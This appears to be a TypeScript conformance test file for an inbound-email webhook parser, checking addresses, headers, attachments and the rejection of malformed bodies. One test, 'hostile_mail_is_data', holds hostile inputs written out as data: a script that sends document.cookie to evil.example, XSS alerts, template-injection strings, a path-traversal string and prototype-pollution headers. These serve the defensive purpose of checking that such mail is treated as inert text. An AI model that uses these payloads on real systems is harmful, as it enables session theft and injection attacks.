import { assert, assertEqual, assertError } from '@patchbay/core/conformance';
import { cases } from '../define.ts';
import type { ArrivedMail } from '../harness.ts';

const needs = { traits: ['inbound'] } as const;
const bytes = Uint8Array.from({ length: 1027 }, (_, index) => (index * 13) % 256);

const letter: ArrivedMail = {
  from: 'Grace Hopper <grace@navy.example>',
  to: 'help@shop.example',
  subject: 'Where is my order?',
  text: 'It is late.\nGrace',
};

/** Mails that strangers write to the application. */
export const inboundCases = cases('webhooks', 'inbound.receive', {
  fields: {
    title: 'Sender, readers, subject and both bodies are read as they were written.',
    needs,
    async run(scene) {
      const html = '<p>It is <b>late</b> — 遅い.</p>';
      const mail = {
        ...letter,
        to: 'help@shop.example, "Sales, EU" <sales@shop.example>',
        cc: 'Boss <boss@navy.example>',
        subject: 'Wo ist die Bestellung? 東京',
        html,
      };
      const found = await scene.value(scene.email.inbound.receive(await scene.inboundOf(mail)));
      assertEqual(found.from, { email: 'grace@navy.example', name: 'Grace Hopper' }, 'from');
      assertEqual(
        found.to,
        [{ email: 'help@shop.example' }, { email: 'sales@shop.example', name: 'Sales, EU' }],
        'to',
      );
      assertEqual(found.cc, [{ email: 'boss@navy.example', name: 'Boss' }], 'cc');
      assertEqual(
        [found.subject, found.provider],
        [mail.subject, scene.email.provider],
        'subject, and provider',
      );
      assertEqual(found.text?.replaceAll('\r\n', '\n').trimEnd(), letter.text, 'text');
      assertEqual(found.html?.replaceAll('\r\n', '\n').trimEnd(), html, 'html');
    },
  },
  headers_and_envelope: {
    title: 'Its headers, its Message-ID and the envelope are there: whom it was really for.',
    needs,
    async run(scene) {
      const headers = { 'Message-ID': '<m-7@navy.example>', 'In-Reply-To': '<o-1007@shop.example>' };
      const envelope = { from: 'bounces@navy.example', to: ['help+7@shop.example'] };
      const webhook = await scene.inboundOf({ ...letter, headers, envelope });
      const found = await scene.value(scene.email.inbound.receive(webhook));
      assertEqual(
        [found.rfcMessageId, found.envelope],
        ['m-7@navy.example', envelope],
        'Message-ID, and envelope',
      );
      const reply = found.headers.filter(({ name }) => name.toLowerCase() === 'in-reply-to');
      assertEqual(
        reply.map(({ value }) => value),
        ['<o-1007@shop.example>'],
        'In-Reply-To',
      );
    },
  },
  attachments: {
    title: 'Files arrive byte for byte, with name, type and content id.',
    needs,
    async run(scene) {
      const attachments = [
        { filename: 'Foto für März.png', contentType: 'image/png', bytes, contentId: 'photo' },
        {
          filename: 'data.bin',
          contentType: 'application/octet-stream',
          bytes: new Uint8Array([13, 10, 0, 255, 45, 45]),
        },
      ];
      const found = await scene.value(
        scene.email.inbound.receive(await scene.inboundOf({ ...letter, attachments })),
      );
      assertEqual(
        found.attachments.map(({ filename, contentType, contentId }) => [filename, contentType, contentId]),
        attachments.map(({ filename, contentType, contentId }) => [filename, contentType, contentId]),
        'names, types and content ids',
      );
      assertEqual(
        found.attachments.map((file) => [...file.bytes]),
        attachments.map((file) => [...file.bytes]),
        'bytes',
      );
    },
  },
  without_a_text: {
    title: 'A mail without text, HTML or files has none; the subject is never missing.',
    needs,
    async run(scene) {
      const webhook = await scene.inboundOf({ from: letter.from, to: letter.to, subject: '' });
      const found = await scene.value(scene.email.inbound.receive(webhook));
      assertEqual(
        [found.subject, found.html, found.attachments],
        ['', undefined, []],
        'subject, html, files',
      );
      assertEqual(found.text ?? '', '', 'text');
    },
  },
  hostile_mail_is_data: {
    title: 'A hostile mail is data: markup, paths and commands come through as the text that they are.',
    needs,
    async run(scene) {
      const subject = '<script>alert(1)</script> {{constructor}} ${7*7} ../../etc/passwd';
      const html =
        '<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>';
      const attachments = [{ filename: 'evil";x=y.html', contentType: 'text/html', bytes }];
      const headers = { __proto__x: 'polluted', 'X-Evil': '"><svg onload=alert(1)>' };
      const webhook = await scene.inboundOf({ ...letter, subject, html, attachments, headers });
      const found = await scene.value(scene.email.inbound.receive(webhook));
      assertEqual([found.subject, found.html?.trimEnd()], [subject, html], 'subject, and html');
      const [file] = found.attachments;
      assert(
        file !== undefined && !/[\r\n/\\]/.test(file.filename),
        `a name without a path, found ${file?.filename}`,
      );
      assertEqual([...file.bytes], [...bytes], 'bytes');
    },
  },
  keeps_the_raw_form_out_of_print: {
    title: 'The provider’s own form is there as `raw`, and is not printed.',
    needs,
    async run(scene) {
      const found = await scene.value(scene.email.inbound.receive(await scene.inboundOf(letter)));
      assertEqual(
        [typeof found.raw, Object.keys(found).includes('raw')],
        ['object', false],
        'raw, and whether it prints',
      );
    },
  },
  malformed: {
    title: 'What is not what the provider sends is refused, not guessed at.',
    needs,
    async run(scene) {
      const webhook = await scene.inboundOf(letter);
      const encoder = new TextEncoder();
      for (const body of [
        new Uint8Array(),
        encoder.encode('nonsense'),
        encoder.encode('{"hello":"world"}'),
      ]) {
        const error = await scene.failure(scene.email.inbound.receive({ ...webhook, body }));
        assertEqual(error.code, 'webhook_rejected', 'code');
      }
    },
  },
  parsed_body: {
    title: 'A body that a framework has parsed is refused for that reason.',
    needs,
    async run(scene) {
      const webhook = await scene.inboundOf(letter);
      // A caller without types hands over what its framework made of the body.
      const input = { ...webhook, body: { subject: 'Where?' } as unknown as Uint8Array };
      const error = await scene.failure(scene.email.inbound.receive(input));
      assertError(error, { code: 'webhook_rejected', reason: 'body_parsed' });
    },
  },
  is_missing: {
    title: 'A provider that takes no mail in says `unsupported`.',
    needs: { unless: ({ traits }) => (traits.inbound ? 'the trait is there' : undefined) },
    async run(scene) {
      const webhook = {
        url: 'https://shop.example/inbound',
        headers: new Headers(),
        body: new Uint8Array([1]),
      };
      assertError(await scene.failure(scene.email.inbound.receive(webhook)), { code: 'unsupported' });
    },
  },
});
